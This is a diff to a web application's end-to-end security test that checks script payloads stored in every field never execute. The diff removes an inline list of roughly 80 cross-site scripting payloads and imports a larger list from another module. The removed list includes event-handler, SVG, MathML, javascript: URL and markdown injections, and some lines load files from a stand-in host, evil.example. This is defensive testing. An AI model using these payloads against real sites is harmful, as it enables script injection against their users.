@@ -1,93 +1,7 @@
 // Script payloads in every stored field, on every page that shows them: nothing runs (catalogue IN5).
 import { type Page, buy, expect, hydrated, open, signIn, signUp, somebody, test, unique } from "./fixtures";
 import { dragByMouse, handle } from "./editor";
-
-const RUN = "window.__pwned=1";
-
-/** Each runs where it is taken as markup, address, template or script. */
-const PAYLOADS = [
-  `<script>${RUN}</script>`,
-  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-  `</script><script>${RUN}</script>`,
-  `</title><script>${RUN}</script>`,
-  `</textarea><script>${RUN}</script>`,
-  `</style><script>${RUN}</script>`,
-  `</template><img src=x onerror=${RUN}>`,
-  `</noscript><script>${RUN}</script>`,
-  `--><script>${RUN}</script><!--`,
-  `]]><script>${RUN}</script>`,
-  `<script\n>${RUN}</script\n>`,
-  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<img src=x onerror=${RUN}>`,
-  `<img src="x" onerror="${RUN}" `,
-  `<img src=x:alert(1) onerror=eval(src)>`,
-  `<img/src/onerror=${RUN}>`,
-  `<img src=\`x\` onerror=${RUN}>`,
-  `<image src=x onerror=${RUN}>`,
-  `"><img src=x onerror=${RUN}>`,
-  `'><img src=x onerror=${RUN}>`,
-  `" autofocus onfocus=${RUN} x="`,
-  `' autofocus onfocus=${RUN} x='`,
-  `" onmouseover="${RUN}`,
-  `\` onclick=${RUN} \``,
-  `<svg onload=${RUN}>`,
-  `<svg/onload=${RUN}>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
-  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
-  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>X</text></a></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
-  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></foreignObject></svg>`,
-  `<math><mtext></p><img src=x onerror=${RUN}>`,
-  `<math href="javascript:${RUN}">CLICK</math>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
-  `<body onload=${RUN}>`,
-  `<body onpageshow=${RUN}>`,
-  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
-  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
-  `<iframe onload=${RUN}></iframe>`,
-  `<object data="javascript:${RUN}"></object>`,
-  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
-  `<embed src="javascript:${RUN}">`,
-  `<a href="javascript:${RUN}">x</a>`,
-  `<a href="java\tscript:${RUN}">x</a>`,
-  `<a href=" &#14; javascript:${RUN}">x</a>`,
-  `<a href="data:text/html,<script>opener.__pwned=1</script>">x</a>`,
-  `<a href="vbscript:msgbox(1)">x</a>`,
-  `<base href="//evil.example/">`,
-  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
-  `<link rel=stylesheet href=//evil.example/x.css>`,
-  `<style>@import '//evil.example/x.css';body{background:url(javascript:${RUN})}</style>`,
-  `<p style="background:url(//evil.example/x)">x</p>`,
-  `<form action="javascript:${RUN}"><button>x</button></form>`,
-  `<button formaction="javascript:${RUN}">x</button>`,
-  `<input autofocus onfocus=${RUN}>`,
-  `<select autofocus onfocus=${RUN}>`,
-  `<video><source onerror=${RUN}></video>`,
-  `<video src=x onerror=${RUN}></video>`,
-  `<audio src=x onerror=${RUN}></audio>`,
-  `<details open ontoggle=${RUN}>x</details>`,
-  `<marquee onstart=${RUN}>x</marquee>`,
-  `<dialog open onclose=${RUN}>x</dialog>`,
-  `<div popover id=p onbeforetoggle=${RUN}></div><button popovertarget=p autofocus>x</button>`,
-  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
-  `[x](javascript:${RUN})`,
-  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)`,
-  `![x](x"onerror="${RUN})`,
-  `![x](javascript:${RUN})`,
-  `<javascript:${RUN}>`,
-  `[x]: javascript:${RUN}\n[x]`,
-  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
-  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
-  `\${${RUN}}{{${RUN}}}{%${RUN}%}#{${RUN}}`,
-  `\u2028${RUN}\u2029`,
-  `&lt;script&gt;${RUN}&lt;/script&gt;`,
-  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
-  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x`,
-  `";${RUN};"`,
-  `';${RUN};//`,
-];
+import { PAYLOADS, RUN } from "./payloads";
 
 /** One line of at most 200 characters, as names take it. */
 const NAMES = PAYLOADS.map((payload) => payload.replaceAll(/[\s\u2028\u2029]+/g, " ").slice(0, 200));
@@ -127,8 +41,8 @@ async function harmless(page: Page, where: string) {
 }
 
 test("script in every stored field runs on no page", async ({ page, context, author, another, watch }) => {
-  test.setTimeout(180_000);
-  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
+  test.setTimeout(300_000);
+  expect(PAYLOADS.length).toBeGreaterThanOrEqual(260);
   const everything = PAYLOADS.join("\n\n");
 
   // Every field of every table that a person can fill, by the forms' own requests.
